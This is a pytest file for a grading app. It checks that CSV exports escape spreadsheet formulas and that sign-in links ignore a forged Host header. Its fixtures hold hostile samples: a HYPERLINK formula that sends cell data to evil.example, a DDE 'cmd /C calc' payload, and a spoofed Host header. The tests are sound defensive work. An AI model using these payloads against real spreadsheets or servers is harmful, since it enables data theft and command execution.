"""Round 21: every CSV the course downloads is safe to open, and its links name the public site.

* The Canvas and Moodle exports put the assignment's title in their header unescaped: a title
  starting with `=` (or + - @) opened as a formula in the instructor's spreadsheet. Cells were made
  safe one by one, and the headers were missed; every text cell of every export (gradebook, Canvas,
  Moodle, sign-in links) now goes through one writer (app/gradebook.excel_csv).
* The sign-in links CSV built its links from the request's Host header, against the rule that
  generated links use PUBLIC_URL: a proxy's internal name (or a forged Host) went to the students.
"""

from __future__ import annotations

import csv
import io

import pytest

from app.assignments import ensure_assignment
from app.extensions import db
from tests.web.helpers import realistic_result

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
DANGEROUS = tuple("=+-@\t\r")
# Round 33: a login ("+zero@example.edu") goes to Canvas and Moodle as written; only such a one,
# which can build no formula able to act, may start with a sign (app/gradebook._INERT_LOGIN).
INERT_LOGINS = {"+zero@example.edu"}


def formulas(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(DANGEROUS) and c not in INERT_LOGINS]


def rows_of(body: bytes) -> list[list[str]]:
    assert body.startswith("\ufeff".encode())  # Excel's UTF-8 mark stays
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.fixture
def hostile_class(client, web, course, factory):
    a = ensure_assignment("attention", FORMULA, "attention")
    db.session.commit()
    for name, email in (("@SUM(1+1)*cmd|' /C calc'!A0", "mallory@example.edu"), ("王, \"小明\"", "wang@example.edu"),
                        ("-2+3 Li", "li2@example.edu"), ("\tTab Zhao", "zhao@example.edu")):
        s = factory.student(email=email, name=name)
        web.grade(web.submit(s, a), realistic_result())
    factory.student(email="+zero@example.edu", name="Zero Attempts")
    web.login(client, course["teacher"])
    return a


@pytest.mark.parametrize("fmt", ["csv", "canvas", "moodle"])
def test_no_cell_of_any_export_starts_a_formula_headers_included(client, hostile_class, fmt):
    resp = client.get(f"/instructor/gradebook.csv?a=attention&format={fmt}")
    assert resp.status_code == 200
    table = rows_of(resp.data)
    cells = [c for row in table for c in row]
    assert not formulas(cells)
    # the text is kept, behind the apostrophe that makes it text
    if fmt != "csv":
        assert "'" + FORMULA in table[0][-1]
    assert any(c.startswith("'@SUM(1+1)*cmd|'") for c in cells)


def test_names_with_commas_and_quotes_survive_the_round_trip(client, hostile_class):
    table = rows_of(client.get("/instructor/gradebook.csv?a=attention&format=csv").data)
    by_email = {row[0]: row for row in table[1:]}
    assert by_email["wang@example.edu"][1] == '王, "小明"'
    assert by_email["'+zero@example.edu"][2] == ""  # no graded attempt: a blank score, not 0


def test_the_api_export_is_the_same_safe_file(client, hostile_class, factory, course):
    from tests.web.test_api import bearer

    resp = client.get("/api/v1/gradebook?format=canvas", headers=bearer(factory.token(course["teacher"])))
    assert resp.status_code == 200
    assert not formulas([c for row in rows_of(resp.data) for c in row])


def test_sign_in_links_name_the_public_url_not_the_host_header(app, client, web, course):
    app.config["PUBLIC_URL"] = "https://grader.example.edu"
    web.login(client, course["teacher"])
    resp = client.post("/instructor/roster/links", data={"user_id": [course["alice"].id]},
                       headers={"Host": "evil.example"})
    assert resp.status_code == 200, resp.data[:200]
    table = rows_of(resp.data)
    assert table[1][2].startswith("https://grader.example.edu/signin/") and "evil.example" not in resp.get_data(True)
